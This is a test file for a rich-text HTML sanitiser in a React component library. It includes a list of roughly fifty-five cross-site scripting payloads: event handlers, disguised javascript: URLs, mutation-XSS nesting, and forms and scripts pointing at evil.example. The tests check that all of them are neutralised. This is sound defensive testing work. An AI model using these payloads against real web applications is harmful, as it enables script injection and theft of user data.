import { expect, test, vi } from 'vitest'
import { hostileHtml } from '../../../../../scripts/support/hostile-html.ts'
import { part, render } from '../../testing/render.tsx'
import { readNodes } from './read-rich-text.ts'
import { RichText } from './rich-text.tsx'
import { richTextSchema, safeAddress } from './rich-text-schema.ts'
import { cleanRichText } from './write-rich-text.ts'

/** Attacks from public collections: handlers, disguised schemes, foreign namespaces, forms, frames, mutation. */
const hostile: readonly string[] = [
  '<script>window.hit=1</script>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  '<img src=x onerror="window.hit=1">',
  '<img src="https://a.example/a.png" onload=window.hit=1 onerror=window.hit=1>',
  '<p onclick="window.hit=1" onmouseover=window.hit=1 style="background:url(javascript:window.hit=1)">t</p>',
  '<a href="javascript:window.hit=1">t</a>',
  '<a href="JaVaScRiPt:window.hit=1">t</a>',
  '<a href="java\nscript:window.hit=1">t</a>',
  '<a href="java&#9;script:window.hit=1">t</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.hit=1">t</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.hit=1">t</a>',
  '<a href=" &#14;  javascript:window.hit=1">t</a>',
  '<a href="\u0001javascript:window.hit=1">t</a>',
  '<a href="vbscript:msgbox(1)">t</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">t</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=">t</a>',
  '<a href="blob:https://a.example/1">t</a>',
  '<a href="file:///etc/passwd">t</a>',
  '<a href="//evil.example/">t</a>',
  '<img src="data:image/svg+xml,<svg onload=window.hit=1>">',
  '<img src="//evil.example/a.png">',
  '<img src="/\\evil.example/a.png">',
  '<img src="/\t/evil.example/a.png">',
  '<img src="javascript:window.hit=1">',
  '<img srcset="x onerror=window.hit=1 1x">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:window.hit=1 /><a id=x><text>t</text></a></svg>',
  '<svg><style><img src=x onerror=window.hit=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<math><mi//xlink:href="data:x,<script>window.hit=1</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  '<style><style/><img src=x onerror=window.hit=1>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.hit=1">',
  '<iframe src="javascript:parent.hit=1"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:window.hit=1">t</button></form>',
  '<input autofocus onfocus=window.hit=1><select autofocus onfocus=window.hit=1><textarea autofocus onfocus=window.hit=1>',
  '<video><source onerror="window.hit=1"></video><audio src=x onerror=window.hit=1></audio>',
  '<details open ontoggle=window.hit=1>t</details><marquee onstart=window.hit=1>t</marquee>',
  '<template><img src=x onerror=window.hit=1></template>',
  '<listing>&lt;img src=x onerror=window.hit=1&gt;</listing>',
  '<xmp><img src=x onerror=window.hit=1></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=window.hit=1>">',
  '<table background="javascript:window.hit=1"><td background="javascript:window.hit=1" onclick=window.hit=1>t</table>',
  '<p id="x" name="getElementById" class="q:fixed q:inset-0" contenteditable tabindex=1 autofocus onfocus=window.hit=1>t</p>',
  '<custom-element onclick=window.hit=1 is="x-y">t</custom-element>',
  '<!--<img src="--><img src=x onerror=window.hit=1//">',
  '<![CDATA[<img src=x onerror=window.hit=1>]]>',
  '"><img src=x onerror=window.hit=1>',
  '<a href="https://a.example/&quot; onclick=&quot;window.hit=1">t</a>',
  `${'<div>'.repeat(5000)}<img src=x onerror=window.hit=1>`,
]

const allowed = new Map<string, readonly string[]>(Object.entries(richTextSchema.tags))

const withShortName = (html: string) => [html.slice(0, 60), html] as const

/** Waits until a picture requested now has failed; by then all earlier ones have failed, too. */
const pictureFailed = () =>
  new Promise((resolve) => {
    const picture = new Image()
    picture.onerror = resolve
    picture.src = 'nowhere'
  })

test.each(hostile.map(withShortName))('nothing runs and nothing remains of %s', async (_, html) => {
  Reflect.deleteProperty(window, 'hit')
  const { root } = await render(<RichText html={html} />)
  const clean = cleanRichText(html)
  // parsed again by a parser other than the kit's, in a live document, where any remaining handler would run
  const reparsed = document.createElement('div')
  document.body.append(reparsed)
  reparsed.innerHTML = clean
  await pictureFailed()
  reparsed.remove()
  expect(Reflect.get(window, 'hit')).toBeUndefined()

  for (const node of reparsed.querySelectorAll('*')) {
    const attributes = allowed.get(node.localName)
    expect(attributes, `<${node.localName}> in ${clean}`).toBeDefined()
    for (const { name, value } of node.attributes) {
      expect(attributes).toContain(name)
      if (name === 'href' || name === 'src') expect(safeAddress(name, value)).toBe(value)
    }
  }
  const allowedAttributes = new Set([
    'data-q',
    'class',
    'href',
    'src',
    'alt',
    'loading',
    'target',
    'rel',
    'width',
    'height',
  ])
  for (const node of part('rich-text', root).querySelectorAll('*')) {
    expect([...allowed.keys(), 'span', 'div']).toContain(node.localName)
    for (const { name, value } of node.attributes) {
      expect([...allowedAttributes, 'colspan', 'rowspan', 'start']).toContain(name)
      if (name === 'class') expect(value).not.toContain('inset-0')
      if (name === 'href' || name === 'src') expect(value).toMatch(/^(https:|mailto:|tel:|\/[^/\\])/)
    }
  }
  // cleaning again changes nothing: no other content appears when it is parsed again
  expect(cleanRichText(clean)).toBe(clean)
})

/** Records every sign that a text runs code, until the result is read. */
function listen() {
  const signs: string[] = []
  const cleanups: (() => void)[] = []
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'] as const) {
    const original = window[name]
    Object.assign(window, { [name]: () => void signs.push(name) })
    cleanups.push(() => Object.assign(window, { [name]: original }))
  }
  const record = (event: Event) => signs.push(event.type)
  for (const type of ['error', 'unhandledrejection', 'securitypolicyviolation', 'submit']) {
    window.addEventListener(type, record)
    cleanups.push(() => window.removeEventListener(type, record))
  }
  const before = performance.getEntriesByType('resource').length
  const [path, title] = [location.href, document.title]
  return () => {
    for (const each of cleanups) each()
    if (location.href !== path) signs.push('navigation')
    if (document.title !== title) signs.push('title')
    const requests = performance.getEntriesByType('resource').slice(before)
    return [...signs, ...requests.map(({ name }) => name).filter((name) => !name.startsWith(location.origin))]
  }
}

/** Pictures from safe addresses, which rich text may contain. One of an earlier test may still be loading. */
const pictures = new Set<string>()
const concurrency = 60
const batches = Array.from({ length: Math.ceil(hostileHtml.length / concurrency) }, (_, at) => at * concurrency)

test.each(batches)(
  'nothing of a complete collection runs, loads or opens, raw or cleaned, from %d on',
  async (from) => {
    const texts = hostileHtml.slice(from, from + concurrency)
    performance.clearResourceTimings()
    const stopListening = listen()
    const { root } = await render(
      <>
        {texts.map((html) => (
          <RichText key={html} html={html} />
        ))}
        {texts.map((html) => (
          <RichText key={html} html={cleanRichText(html)} />
        ))}
      </>,
    )
    // Cleaned text is safe even if other code sets it as HTML.
    const live = document.createElement('div')
    root.append(live)
    live.innerHTML = texts.map(cleanRichText).join('')
    for (const { src } of root.querySelectorAll('img')) pictures.add(src)
    await pictureFailed()
    live.remove()
    expect(stopListening().filter((sign) => !pictures.has(sign))).toEqual([])
    for (const node of root.querySelectorAll('*')) {
      const handlers = node.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style')
      expect(handlers).toEqual([])
    }
  },
)

test.each([
  ['<p>a <b>b</b> <i>c</i> <ins>d</ins> <del>e</del></p>', '<p>a <strong>b</strong> <em>c</em> <u>d</u> <s>e</s></p>'],
  ['<h1>a</h1><h5>b</h5>', '<h2>a</h2><h4>b</h4>'],
  ['<div>a</div><div>b<p>c</p></div>', '<p>a</p><p>b</p><p>c</p>'],
  ['<b style="font-weight:normal"><p>a</p><p>b</p></b>', '<p>a</p><p>b</p>'],
  ['<h2><div>a</div><div>b</div></h2>', '<h2>a<br>b</h2>'],
  ['<ul><li>a</li><ul><li>b</li></ul></ul>', '<ul><li>a<ul><li>b</li></ul></li></ul>'],
  ['<ol start="3"><li>a</li></ol><ol start="-1"><li>b</li></ol>', '<ol start="3"><li>a</li></ol><ol><li>b</li></ol>'],
  [
    '<table style="width:9px"><caption>t</caption><colgroup><col style="width:1px"></colgroup><thead><tr><th>a</th></tr></thead><tr><td colspan="2" rowspan="0">b</td></tr></table>',
    '<p>t</p><table><tbody><tr><th>a</th></tr><tr><td colspan="2">b</td></tr></tbody></table>',
  ],
  ['<p>1 &lt; 2 &amp; "3"</p>', '<p>1 &lt; 2 &amp; &quot;3&quot;</p>'],
  ['<a href="http://a.example/">a</a>', 'a'],
  ['<img src="//evil.example/a.png"><img src="/\\evil.example/a.png">', ''],
  [
    '<p>a<script>b</script><style>c</style><textarea>d</textarea><svg><text>e</text></svg><select><option>f</select></p>',
    '<p>a</p>',
  ],
  ['<a href="tel:+861062780001">a</a>', '<a href="tel:+861062780001">a</a>'],
  ['<img src="/files/7?x=1" width="9999" height="20">', '<img src="/files/7?x=1" height="20" alt="">'],
])('%s is sanitised to %s', (html, clean) => {
  expect(cleanRichText(html)).toBe(clean)
})

test('an element of another namespace is never allowed, whatever its name', () => {
  const parent = document.createDocumentFragment()
  const foreign = document.createElementNS('http://www.w3.org/2000/svg', 'a')
  foreign.setAttribute('href', 'https://example.edu/')
  foreign.textContent = 'x'
  parent.append(foreign, 'y')
  expect(readNodes(parent)).toEqual(['y'])
})

test('external links open a new window without an opener, and announce this to screen readers', async () => {
  const { root } = await render(
    <RichText html={'<p><a href="https://example.edu/a">out</a> <a href="mailto:a@example.edu">mail</a></p>'} />,
  )
  const [out, mail] = root.querySelectorAll('a')
  expect([out?.target, out?.rel]).toEqual(['_blank', 'noopener noreferrer'])
  expect(out?.textContent).toContain('新窗口')
  expect([mail?.target, mail?.rel]).toEqual(['', ''])
})

test('pictures load lazily and keep their alternative text; a wide table scrolls and can be focused', async () => {
  const cells = '<td>0123456789012345678901234567890</td>'.repeat(12)
  const html = `<p><img src="/a.png" alt="map"></p><table><tr>${cells}</tr></table><table><tr><td>1</td></tr></table>`
  const { root } = await render(
    <div style={{ width: 300 }}>
      <RichText html={html} />
    </div>,
  )
  const image = root.querySelector('img')
  expect([image?.loading, image?.alt]).toEqual(['lazy', 'map'])
  const [wide, narrow] = root.querySelectorAll<HTMLElement>('[data-q="rich-text-scroll"]')
  await vi.waitFor(() => expect([wide?.tabIndex, narrow?.tabIndex]).toEqual([0, -1]))
  expect(part('rich-text', root).scrollWidth).toBeLessThanOrEqual(300)
})
